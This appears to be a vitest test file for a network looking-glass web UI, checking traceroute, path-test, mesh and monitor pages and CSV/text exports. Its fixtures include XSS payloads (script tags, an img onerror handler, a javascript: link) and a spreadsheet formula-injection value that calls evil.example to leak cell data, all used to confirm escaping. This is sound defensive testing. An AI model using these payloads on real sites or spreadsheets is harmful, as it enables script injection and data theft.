/** @jsxRuntime automatic @jsxImportSource hono/jsx */
import { aliasFollowUp, aliasTargets, compare, diagnose } from "@lg/analysis";
import { trace as fixtureTrace, routeBackLab as lab, path, routeBackAliases } from "@lg/analysis/testing";
import type {
  AgentView,
  Hop,
  MeasurementView,
  MonitorSample,
  MonitorView,
  PathTestView,
  ReverseSessionView,
  TraceView,
} from "@lg/protocol";
import { TraceOptions } from "@lg/protocol";
import { capabilitiesOf, descriptorOf } from "@lg/protocol/testing";
import { describe, expect, it } from "vitest";
import { ComparePage } from "./components/compare-page";
import { MeasurementPage } from "./components/measurement-page";
import { MeshPage } from "./components/mesh";
import { destinationSeries, MonitorsPage } from "./components/monitors";
import { FAULT_WORDS, PathTestPage } from "./components/path-test";
import { ReverseSessionPage } from "./components/reverse-session";
import { csvExport, textExport } from "./exports";
import { standaloneHtml } from "./standalone";

const SCRIPT_NAME = "<script>alert(1)</script>.evil";
const IMG_NAME = `"><img src=x onerror=alert(2)>`;

function hop(
  ttl: number,
  host: string | null,
  opts: { name?: string; loss?: number; avg?: number } = {},
): Hop {
  const sent = 10;
  const lossPct = host ? (opts.loss ?? 0) : 100;
  const recv = Math.round(sent * (1 - lossPct / 100));
  const avg = opts.avg ?? ttl;
  return {
    ttl,
    host,
    ...(opts.name ? { name: opts.name } : {}),
    lossPct,
    sent,
    recv,
    drop: sent - recv,
    last: recv ? avg : 0,
    avg: recv ? avg : 0,
    best: recv ? avg * 0.9 : 0,
    worst: recv ? avg * 1.2 : 0,
    stdev: recv ? 0.1 : 0,
    jitter: 0,
    jitterAvg: 0,
    jitterMax: 0,
    responders: host ? [{ address: host, ...(opts.name ? { name: opts.name } : {}), count: recv }] : [],
  };
}

function trace(id: string, agentId: string, target: string, hops: Hop[]): TraceView {
  return {
    id,
    measurementId: "m1",
    followUps: [],
    agentId,
    target,
    address: target,
    status: "done",
    failure: null,
    hops,
    diagnosis: diagnose(hops, { destination: target }),
    stoppedBy: "destination",
    startedAt: "2026-11-23T07:00:00.000Z",
    finishedAt: "2026-11-23T07:00:12.000Z",
  };
}

const options = TraceOptions.parse({});
const agents = new Map<string, AgentView>();

/** A finished measurement of 198.18.9.2 made of these traces. */
const measurementOf = (traces: TraceView[], id = "m1"): MeasurementView => ({
  id,
  target: "198.18.9.2",
  status: "done",
  options,
  created: "2026-11-23T07:00:00.000Z",
  traces,
});

/** An online PoP as the agents API lists it (for the mesh). */
const popView = (id: string, region: string): AgentView => ({
  ...descriptorOf(id, {
    region,
    version: "0",
    addresses: [],
    capabilities: capabilitiesOf({ maxTraces: 1 }),
  }),
  online: true,
  lastSeen: "2026-11-23T07:00:00.000Z",
  running: 0,
  counters: null,
});

// The way there loses 30% from hop 3 on; the way back is clean and takes another router.
const forwardHops = [
  hop(1, "198.18.1.1", { name: SCRIPT_NAME }),
  hop(2, "198.18.2.1"),
  hop(3, "198.18.3.1", { loss: 30, name: IMG_NAME }),
  hop(4, "198.18.9.2", { loss: 30 }),
];
const reverseHops = [hop(1, "198.18.9.1"), hop(2, "198.18.5.1"), hop(3, "198.18.2.2"), hop(4, "198.18.1.2")];

function pathTest(): PathTestView {
  const forward = trace("tf", "fra", "198.18.9.2", forwardHops);
  const reverse = trace("tr", "sin", "198.18.1.2", reverseHops);
  return {
    id: "pt1",
    status: "done",
    a: "fra",
    b: "sin",
    aAddress: "198.18.1.2",
    bAddress: "198.18.9.2",
    options,
    created: "2026-11-23T07:00:00.000Z",
    forward,
    reverse,
    comparison: compare(forwardHops, reverseHops),
    note: null,
  };
}

const render = (node: unknown) => String(node);

/** No markup from a name survives: the dangerous characters only appear escaped. */
function expectEscaped(html: string) {
  expect(html).not.toContain("<script>alert");
  expect(html).not.toContain("<img src=x");
  expect(html).not.toMatch(/onerror=alert\(2\)>/);
}

describe("pages escape what they display", () => {
  it("a measurement page prints hostile reverse-DNS names as text", () => {
    const m = measurementOf([
      trace("t1", "fra", "198.18.9.2", forwardHops),
      trace("t2", "sin", "198.18.9.2", forwardHops.slice(1)),
    ]);
    for (const html of [
      render(<MeasurementPage measurement={m} agents={agents} />),
      render(<ComparePage measurement={m} agents={agents} />),
    ]) {
      expectEscaped(html);
      expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;.evil");
    }
    const exported = standaloneHtml(m, render(<MeasurementPage measurement={m} agents={agents} />));
    expectEscaped(exported);
    expect(exported).not.toMatch(/<script/i);
  });

  it("the text and CSV exports are the tracer's report and CSV, one block per PoP", () => {
    const m = measurementOf([trace("t1", "fra", "198.18.9.2", forwardHops)]);
    const text = textExport(m);
    expect(text).toContain("HOST: fra");
    expect(text).toMatch(/^ {2}3\.\|-- "><img src=x onerror=alert\(2\)> +30\.0%/m);
    const csv = csvExport(m).trimEnd().split("\n");
    expect(csv[0]).toMatch(/^Pop,Mtr_Version,/);
    expect(csv).toHaveLength(1 + forwardHops.length);
    // A name with quotes is quoted as CSV wants it.
    expect(csv[3]).toContain(`"""><img src=x onerror=alert(2)>"`);
  });

  it("the CSV export writes formula-looking names and PoP ids as text a spreadsheet will not run", () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")';
    const m = measurementOf(
      [
        trace("t1", "-fra", "198.18.9.2", [
          hop(1, "198.18.1.1", { name: formula }),
          hop(2, "198.18.9.2", { name: "@SUM(1+1)" }),
        ]),
      ],
      "m2",
    );
    const [, first, second] = csvExport(m).trimEnd().split("\n");
    expect(first).toMatch(/^"'-fra",/);
    expect(first).toContain(`,1,"'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")",`);
    expect(second).toContain(`,2,"'@SUM(1+1)",`);
    // Nothing in the file starts a cell with a formula character outside a quoted, '-prefixed text.
    for (const line of [first, second]) expect(line).not.toMatch(/(^|,)[=+\-@]/);
  });

  it("a path test shows the verdict on top, the route map, both directions and hostile names as text", () => {
    const t = pathTest();
    const html = render(<PathTestPage test={t} agents={agents} />);
    expectEscaped(html);
    const comparison = t.comparison;
    // Only fra's trace loses and nothing follows it up: which direction loses cannot be told.
    expect(comparison?.faultDirection).toBe("undetermined");
    expect(html).toContain("A direction loses packets, and the evidence cannot tell which");
    expect(html.indexOf("verdict-box")).toBeLessThan(html.indexOf('class="segmap"'));
    expect(html).toContain(comparison?.verdict === "asymmetric" ? "Asymmetric" : "Symmetric");
    for (const kind of new Set(comparison?.segments.map((s) => s.kind)))
      expect(html).toContain(`segment-${kind}`);
    expect(html).toContain('id="trace-tf"');
    expect(html).toContain('id="trace-tr"');
  });

  it("a path test whose far end has no agent says only the way there was traced", () => {
    const t: PathTestView = {
      ...pathTest(),
      b: { host: IMG_NAME },
      reverse: null,
      comparison: null,
      note: "no agent at b",
    };
    const html = render(<PathTestPage test={t} agents={agents} />);
    expectEscaped(html);
    expect(html).toContain("Only the way there could be traced.");
    expect(html).not.toContain('class="segmap"');
  });

  it("a waiting reverse session shows the one command, escaped, and polls for the customer", () => {
    const s: ReverseSessionView = {
      id: "rs1",
      status: "waiting",
      created: "2026-11-23T07:00:00.000Z",
      expiresAt: "2026-11-23T07:15:00.000Z",
      server: "fra",
      via: null,
      customer: { publicAddress: null, agentId: null },
      legs: [],
    };
    const html = render(
      <ReverseSessionPage session={s} agents={agents} command={"lg join 'http://x/?a=1&b=<2>'"} />,
    );
    expect(html).toContain("lg join &#39;http://x/?a=1&amp;b=&lt;2&gt;&#39;");
    expect(html).toContain('data-live-poll="/api/v1/reverse-sessions/rs1"');
    const done = render(
      <ReverseSessionPage
        session={{
          ...s,
          status: "done",
          customer: { publicAddress: "198.18.50.1", agentId: "join-rs1" },
          legs: [pathTest()],
        }}
        agents={agents}
      />,
    );
    expect(done).not.toContain("data-live-poll");
    expect(done).toContain("Leg 1");
    expect(done).toContain('href="/p/pt1"');
    expectEscaped(done);
  });

  it("the mesh links each tested pair to its path test and marks asymmetry", () => {
    const t = pathTest();
    const html = render(<MeshPage pops={[popView("fra", "eu"), popView("sin", "ap")]} tests={[t]} />);
    expect(html).toContain('href="/p/pt1"');
    expect(html).toContain("30.0%");
    expect(html).toContain("not tested");
    if (t.comparison?.verdict === "asymmetric") expect(html).toContain('title="asymmetric');
    expect(html).toContain("cell-bad");
  });

  it("the monitors page draws the far end run after run per PoP and keeps only safe links", () => {
    const sample = (
      at: string,
      subject: string,
      traceId: string,
      ttl: number,
      avg: number,
      lossPct = 0,
    ): MonitorSample => ({
      at,
      subject,
      traceId,
      ttl,
      host: `198.18.0.${ttl}`,
      asn: null,
      lossPct,
      avg,
      best: avg,
      worst: avg,
      sent: 10,
    });
    const samples = [
      sample("2026-11-23T07:00:00.000Z", "fra", "t1", 1, 1),
      sample("2026-11-23T07:00:00.000Z", "fra", "t1", 3, 9),
      sample("2026-11-23T07:01:00.000Z", "fra", "t2", 3, 12, 20),
      sample("2026-11-23T07:00:00.000Z", "sin", "t3", 2, 30),
    ];
    const series = destinationSeries(samples);
    expect(series.get("fra")?.map((s) => [s.traceId, s.avg])).toEqual([
      ["t1", 9],
      ["t2", 12],
    ]);
    expect(series.get("sin")).toHaveLength(1);
    const monitor: MonitorView = {
      id: "mo1",
      name: SCRIPT_NAME,
      kind: "trace",
      every: 60,
      rules: {},
      webhook: null,
      measurement: { target: "198.18.9.2", from: ["fra"] },
      runs: 2,
      lastRunAt: "2026-11-23T07:01:00.000Z",
      nextRun: "2026-11-23T07:02:00.000Z",
      lastLink: "javascript:alert(1)",
      firing: 1,
      created: "2026-11-23T06:59:00.000Z",
    };
    const html = render(
      <MonitorsPage
        monitors={[monitor]}
        samples={new Map([["mo1", samples]])}
        alerts={[
          {
            id: "a1",
            monitorId: "mo1",
            rule: "loss",
            subject: "fra",
            status: "firing",
            firedAt: "2026-11-23T07:01:00.000Z",
            resolvedAt: null,
            evidence: {},
            resolveEvidence: null,
            link: "/m/abc",
            resolveLink: null,
            delivery: null,
          },
        ]}
      />,
    );
    expectEscaped(html);
    expect(html).not.toContain("javascript:");
    expect(html).toContain('href="/m/abc"');
    expect(html).toContain("1 firing");
    expect(html.match(/<polyline class="avg"/g)).toHaveLength(2);
  });
});

/**
 * The reference lab's asymmetric pair fra <-> sin (`@lg/analysis/testing`): fra -> sin crosses efra
 * core1 core2 esin, sin -> fra crosses esin core3 efra. `returnLoss`: core3 drops 25% towards efra,
 * so fra's trace loses from hop 4 (its replies come back that way) and sin's from hop 3.
 */
function labPathTest(opts: { aliases: boolean; returnLoss?: boolean; labels?: { a: string; b: string } }) {
  const labels = opts.labels ?? { a: "fra", b: "sin" };
  const forwardHops = path(lab.forward, opts.returnLoss ? { lost: { 4: 5, 5: 5 } } : {});
  const reverseHops = path(lab.reverse, opts.returnLoss ? { lost: { 3: 5, 4: 5 } } : {});
  const aliases = opts.aliases
    ? routeBackAliases(
        // fra's probes to esin and core3 answer over core3 -> efra; sin's probes to efra cross it out.
        opts.returnLoss ? { fromA: { "198.18.7.1": 10, "198.18.5.2": 10 }, fromB: { "198.18.1.2": 10 } } : {},
      )
    : [];
  const targets = opts.aliases
    ? aliasTargets(forwardHops, reverseHops, { aAddress: lab.a, bAddress: lab.b, labels })
    : [];
  const followUps = (from: "a" | "b") =>
    targets
      .filter((t) => t.from === from)
      .map((t) => aliasFollowUp(t, aliases.find((o) => o.from === from && o.target === t.target) ?? null));
  const forward = { ...trace("tf", labels.a, lab.b, forwardHops), followUps: followUps("a") };
  const reverse = { ...trace("tr", labels.b, lab.a, reverseHops), followUps: followUps("b") };
  const view: PathTestView = {
    ...pathTest(),
    id: "pt2",
    a: labels.a,
    b: labels.b,
    aAddress: lab.a,
    bAddress: lab.b,
    forward,
    reverse,
    comparison: compare(forwardHops, reverseHops, {
      forward: { destination: lab.b },
      reverse: { destination: lab.a },
      labels,
      ...(opts.aliases ? { aliases } : {}),
    }),
  };
  return view;
}

/** The router table lines of a page, each as its cells' text (tags dropped, spaces squeezed). */
function routerLines(html: string): string[][] {
  const rows = html.match(/<tr class="router-row[\s\S]*?<\/tr>/g) ?? [];
  return rows.map((row) =>
    (row.match(/<td[^>]*>[\s\S]*?<\/td>/g) ?? []).map((cell) =>
      cell
        .replace(/<details>[\s\S]*<\/details>/, (d) => d.match(/<summary>([\s\S]*?)<\/summary>/)?.[1] ?? "")
        .replace(/<[^>]+>/g, " ")
        .replace(/\s+/g, " ")
        .trim(),
    ),
  );
}

describe("a path test page shows each direction's routers with the evidence", () => {
  it("puts a router both directions cross on one line with both addresses and TTLs, and each direction's own routers on lines marked as its own", () => {
    const t = labPathTest({ aliases: true });
    const html = render(<PathTestPage test={t} agents={agents} />);
    const lines = routerLines(html);
    const sure = (address: string) =>
      `${Math.round((t.comparison?.routers.find((r) => r.addresses.includes(address))?.confidence ?? -1) * 100)}%`;
    // efra: fra's hop 1 (198.18.1.2) and sin's hop 3 (198.18.2.1), one router.
    expect(lines).toContainEqual([
      "1. 198.18.1.2 0.0%",
      "3. 198.18.2.1 0.0%",
      "both directions",
      `link-mate ×2, alias-trace ×2 · ${sure("198.18.1.2")} sure it is one router`,
    ]);
    // core1 and core2 only on the way there, core3 only on the way back, each shown not on the other path.
    expect(lines).toContainEqual([
      "2. 198.18.2.2 0.0%",
      "— not on sin → fra",
      "only fra → sin",
      `alias-trace (2 against) · ${sure("198.18.2.2")} sure it is not on sin → fra`,
    ]);
    expect(lines).toContainEqual([
      "— not on fra → sin",
      "2. 198.18.5.2 0.0%",
      "only sin → fra",
      `alias-trace ×2 (2 against) · ${sure("198.18.5.2")} sure it is not on fra → sin`,
    ]);
    // fra itself, at A's end of the first segment, and sin at B's end of the last.
    expect(lines[0]?.slice(0, 3)).toEqual([
      "— not on fra → sin",
      "4. 198.18.1.1 0.0%",
      "fra itself (the way back&#39;s destination)",
    ]);
    expect(lines.at(-1)?.[2]).toBe("sin itself (the way there&#39;s destination)");
    expect(lines.filter((l) => l[2] === "both directions")).toHaveLength(2);
  });

  it("opens each router's evidence line by line, with the answering convention in words, and keeps it on a hover", () => {
    const t = labPathTest({ aliases: true });
    const html = render(<PathTestPage test={t} agents={agents} />);
    const efra = t.comparison?.routers.find((r) => r.addresses.includes("198.18.1.2"));
    expect(efra?.answers).toBe("route-back");
    const row =
      html.match(/<tr class="router-row place-shared" data-router="r:198.18.1.2"[\s\S]*?<\/tr>/)?.[0] ?? "";
    expect(row).toContain("<details>");
    expect(row).toContain("answers from the interface of its route back to the prober (Linux&#39;s default)");
    for (const e of efra?.evidence ?? []) {
      expect(row).toContain(`<span class="ev-test">${e.test}</span>`);
      expect(row).toContain(e.detail.replaceAll("'", "&#39;"));
    }
    // The hover carries the same case as plain text.
    const title = row.match(/title="([^"]*)"/)?.[1] ?? "";
    expect(title).toContain(`${Math.round((efra?.confidence ?? -1) * 100)}% sure it is one router`);
    expect(title).toContain("link-mate (agrees): the source&#39;s address 198.18.1.1");
    const core3 =
      html.match(/<tr class="router-row place-own" data-router="r:198.18.5.2"[\s\S]*?<\/tr>/)?.[0] ?? "";
    expect(core3).toContain(
      '<span class="ev-verdict">against</span>: A reached reverse hop 2 (198.18.5.2) elsewhere',
    );
  });

  it("marks routers the evidence cannot place as not identified on the other side, never as shared", () => {
    const t = labPathTest({ aliases: false });
    const html = render(<PathTestPage test={t} agents={agents} />);
    const lines = routerLines(html);
    const unplaced = lines.filter((l) => l[2]?.includes("not identified on the other side"));
    expect(unplaced.map((l) => [l[0], l[1], l[2]])).toEqual([
      ["2. 198.18.2.2 0.0%", "— not on sin → fra", "only seen fra → sin: not identified on the other side"],
      ["3. 198.18.3.2 0.0%", "— not on sin → fra", "only seen fra → sin: not identified on the other side"],
      ["— not on fra → sin", "2. 198.18.5.2 0.0%", "only seen sin → fra: not identified on the other side"],
    ]);
    expect(unplaced.every((l) => l[3]?.endsWith("no test could tell"))).toBe(true);
    expect(html).toContain('class="place place-mark-unknown"');
    // Only efra and esin are shared, from two link-mate pairs each.
    const shared = t.comparison?.routers.filter((r) => r.identity === "shared") ?? [];
    expect(lines.filter((l) => l[2] === "both directions").map((l) => l[3])).toEqual(
      shared.map((r) => `link-mate ×2 · ${Math.round(r.confidence * 100)}% sure it is one router`),
    );
    expect(shared).toHaveLength(2);
  });

  it("puts a return-path loss on the way back, between the hops where it leaves core3, with the one-way loss and the evidence", () => {
    const t = labPathTest({ aliases: true, returnLoss: true });
    const c = t.comparison;
    expect(c?.faultDirection).toBe("reverse");
    const html = render(<PathTestPage test={t} agents={agents} />);
    expect(html).toContain(FAULT_WORDS.reverse("fra", "sin"));
    const card = html.match(/<section class="card loss-reading loss-reverse"[\s\S]*?<\/section>/)?.[0] ?? "";
    expect(card).toContain("The loss is on the way back (sin → fra)");
    expect(card).toMatch(
      /<td>back: sin → fra<\/td><td>between hop 2 \(198\.18\.5\.2\) and hop 3 \(198\.18\.2\.1\)<\/td><td class="c-num lossy">25\.0%<\/td>/,
    );
    expect(card).toContain(`${c?.loss?.evidence.replaceAll('"', "&quot;").replaceAll("'", "&#39;")}`);
    expect(card).toContain(`log-likelihood ratio ${c?.loss?.support.toFixed(1)} over the next reading`);
    // fra's own trace shows loss from hop 4: the page says it is its replies', under its heading.
    expect(html).toContain(
      "The loss this trace shows is its replies&#39; way back over sin → fra, not fra → sin itself",
    );
    expect(html).toContain("there (fra → sin): its trace picks up +25.0% loss");
  });

  it("says plainly when the traces cannot tell which direction loses, and what would", () => {
    const t = labPathTest({ aliases: false, returnLoss: true });
    expect(t.comparison?.faultDirection).toBe("undetermined");
    const html = render(<PathTestPage test={t} agents={agents} />);
    expect(html).toContain(FAULT_WORDS.undetermined("fra", "sin"));
    const card =
      html.match(/<section class="card loss-reading loss-undetermined"[\s\S]*?<\/section>/)?.[0] ?? "";
    expect(card).toContain("A direction loses packets, and the evidence cannot tell which.");
    expect(card).toContain("alias traces from each end");
    expect(card).not.toContain("<table");
    expect(card).not.toContain("log-likelihood ratio 0.0 over");
    expect(html).not.toContain("The loss this trace shows is its replies");
  });

  it("the mesh marks a pair whose loss cannot be put on either direction, and only that pair", () => {
    const unsure = labPathTest({ aliases: false, returnLoss: true });
    const placed = { ...labPathTest({ aliases: true, returnLoss: true }), id: "pt3", a: "sin", b: "fra" };
    expect(placed.comparison?.faultDirection).toBe("reverse");
    const html = render(
      <MeshPage pops={[popView("fra", "eu"), popView("sin", "ap")]} tests={[unsure, placed]} />,
    );
    const cell = (id: string) => html.match(new RegExp(`<a href="/p/${id}"[\\s\\S]*?</a>`))?.[0] ?? "";
    expect(cell("pt2")).toContain('class="dir-mark"');
    expect(cell("pt2")).toContain("which way?");
    expect(cell("pt3")).not.toContain("dir-mark");
  });

  it("lists each end's follow-up probes with kind, target, result and purpose", () => {
    const t = labPathTest({ aliases: true, returnLoss: true });
    const html = render(<PathTestPage test={t} agents={agents} />);
    const fromFra =
      html.match(
        /<section class="card follow-ups" aria-labelledby="follow-ups-tf"[\s\S]*?<\/section>/,
      )?.[0] ?? "";
    expect(fromFra).toContain("Follow-up probes from fra (3)");
    expect(fromFra).toContain('<th scope="col">Kind</th>');
    expect(fromFra).toMatch(
      /<td>alias trace<\/td><td class="addr">198\.18\.5\.2<\/td><td>reached at hop 2 after 198\.18\.1\.2; 30 of 40 answered<\/td>/,
    );
    expect(fromFra).toContain("is sin → fra&#39;s hop 2 (198.18.5.2) on fra&#39;s path");
    expect(html).toContain("Follow-up probes from sin (4)");
    // A path test without follow-ups has no such table.
    expect(render(<PathTestPage test={pathTest()} agents={agents} />)).not.toContain("follow-ups");
  });

  it("prints hostile names and agent labels in router lines, hovers, evidence and follow-ups as text", () => {
    const named = (address: string): [string, { name: string }] => [address, { name: SCRIPT_NAME }];
    const forwardHops = fixtureTrace([
      named("198.18.10.1"),
      ["198.18.11.1", { name: IMG_NAME }],
      "198.18.200.2",
    ]);
    const reverseHops = fixtureTrace([
      ["198.18.12.1", { name: IMG_NAME }],
      named("198.18.13.1"),
      "198.18.100.2",
    ]);
    const c = compare(forwardHops, reverseHops);
    expect(c.shared.map((s) => s.match)).toEqual(["name", "name"]);
    const labels = { a: IMG_NAME, b: SCRIPT_NAME };
    const withFollowUps = labPathTest({ aliases: true, labels });
    const t: PathTestView = {
      ...withFollowUps,
      forward: { ...withFollowUps.forward, hops: forwardHops },
      reverse: withFollowUps.reverse ? { ...withFollowUps.reverse, hops: reverseHops } : null,
      comparison: c,
    };
    const html = render(<PathTestPage test={t} agents={agents} />);
    expectEscaped(html);
    expect(html).toContain("have the same name &lt;script&gt;alert(1)&lt;/script&gt;.evil");
    expect(html).toMatch(/title="[^"<>]*same name &lt;script&gt;alert\(1\)&lt;\/script&gt;\.evil/);
    expect(html).toContain("Follow-up probes from &quot;&gt;&lt;img src=x onerror=alert(2)&gt; (3)");
  });
});

describe("a measurement page shows what the engine did beyond mtr", () => {
  const silentEnd = [hop(1, "198.18.1.1"), hop(2, "198.18.2.1"), hop(3, null)].map((h) => ({
    ...h,
    lossCi: h.recv === h.sent ? ([0, 27.8] as [number, number]) : ([72.2, 100] as [number, number]),
  }));
  const followUps = [
    {
      kind: "tcp-syn" as const,
      target: "198.18.9.2",
      port: 8080,
      ttl: 64,
      answered: true,
      rtt: 0.2,
      sent: 3,
      recv: 3,
      purpose:
        "the ICMP trace ends in silence after hop 2 (198.18.2.1): is 198.18.9.2 there, ignoring ICMP echo?",
      result: "198.18.9.2 answered 3 of 3 (SYN-ACK or RST), best 0.2 ms",
    },
    {
      kind: "udp" as const,
      target: "198.18.9.2",
      port: 33434,
      ttl: 64,
      answered: false,
      sent: 3,
      recv: 0,
      purpose:
        "the ICMP trace ends in silence after hop 2 (198.18.2.1): is 198.18.9.2 there, ignoring ICMP echo?",
      result: "no answer to 3 probes within 1 s",
    },
  ];
  const t: TraceView = {
    ...trace("t1", "fra", "198.18.9.2", silentEnd),
    diagnosis: diagnose(silentEnd, { destination: "198.18.9.2", followUps }),
    stoppedBy: "max-unknown",
    followUps,
    adaptive: { extraCycles: 5, extraProbes: 15, maxExtraCycles: 30, decided: true },
  };
  const m = measurementOf([t]);
  const html = render(<MeasurementPage measurement={m} agents={agents} />);

  it("lists the follow-up probes with kind, target:port, result and purpose, and the proof in the finding", () => {
    expect(html).toContain("Follow-up probes from fra (2)");
    expect(html).toMatch(/<td>TCP SYN<\/td><td class="addr">198\.18\.9\.2:8080<\/td>/);
    expect(html).toContain("198.18.9.2 answered 3 of 3 (SYN-ACK or RST), best 0.2 ms");
    expect(html).toContain("no answer to 3 probes within 1 s");
    expect(html).toContain("is 198.18.9.2 there, ignoring ICMP echo?");
    expect(html).toContain("Proof that it is there: TCP SYN to 8080 answered in 0.2 ms");
  });

  it("says how many probes --until-sure added, and gives each hop's loss interval on its Loss% cell", () => {
    expect(html).toContain(
      "Until sure: decided after 5 more probes per hop (15 in all; at most 30 more per hop).",
    );
    expect(html).toContain('title="95% interval of Loss%: 0–27.8%"');
    expect(html).toContain('title="95% interval of Loss%: 72.2–100%"');
  });

  it("says where a NAT sits and shows the Record Route hints as hints, a line each", () => {
    const withReadings: TraceView = {
      ...t,
      nat: {
        afterTtl: 1,
        beforeTtl: 2,
        rewrote: ["source"],
        publicSource: "198.18.161.1",
        quotes: { asSent: 3, rewritten: 3 },
      },
      recordRoute: {
        status: "ok",
        forward: ["198.18.170.1"],
        back: ["198.18.173.1", "198.18.150.2"],
        sent: 3,
        answered: 3,
        plainSent: 3,
        plainAnswered: 3,
      },
    };
    const page = render(<MeasurementPage measurement={measurementOf([withReadings])} agents={agents} />);
    expect(page).toContain(
      "NAT between hop 1 and hop 2: hops up to 1 quote the probes as sent (3 quotes), hops from 2 on quote them rewritten (3 quotes: source address 198.18.161.1).",
    );
    expect(page).toContain("Way back (Record Route, hints): 198.18.173.1 198.18.150.2");
    expect(html).not.toContain("Record Route");
  });

  it("a path test's trace sections leave the follow-ups to the page's own table (listed once)", () => {
    const p = pathTest();
    const withFollowUps = { ...p, forward: { ...p.forward, followUps } };
    const page = render(<PathTestPage test={withFollowUps} agents={agents} />);
    expect(page.split("198.18.9.2 answered 3 of 3").length - 1).toBe(1);
  });
});

describe("the live script's row template", () => {
  const running: TraceView = {
    ...trace("t1", "fra", "198.18.9.2", forwardHops),
    status: "running",
    diagnosis: null,
  };
  const templates = (html: string) => html.match(/<template data-role="hop-row">.*?<\/template>/g) ?? [];

  it("a running trace's section carries the server's hop row with every optional part, for the script to fill", () => {
    const html = render(
      <MeasurementPage measurement={{ ...measurementOf([running]), status: "running" }} agents={agents} />,
    );
    const [row, ...more] = templates(html);
    expect(more).toEqual([]);
    for (const part of ['class="name"', 'class="addr"', 'class="others"', 'class="silent"'])
      expect(row).toContain(part);
    // The same cells, in the same order and with the same classes, as the rows the server draws.
    const cells = (tr: string) => [...tr.matchAll(/<td class="([^"]*)"/g)].map((m) => m[1]);
    const served = html.match(/<tbody data-role="hops">(<tr class="hop".*?<\/tr>)/)?.[1] ?? "";
    expect(cells(row ?? "")).toEqual(cells(served));
    expect(cells(served)).toHaveLength(11);
  });

  it("a finished trace's section has no template", () => {
    expect(
      templates(
        render(
          <MeasurementPage
            measurement={measurementOf([trace("t1", "fra", "198.18.9.2", forwardHops)])}
            agents={agents}
          />,
        ),
      ),
    ).toEqual([]);
  });
});
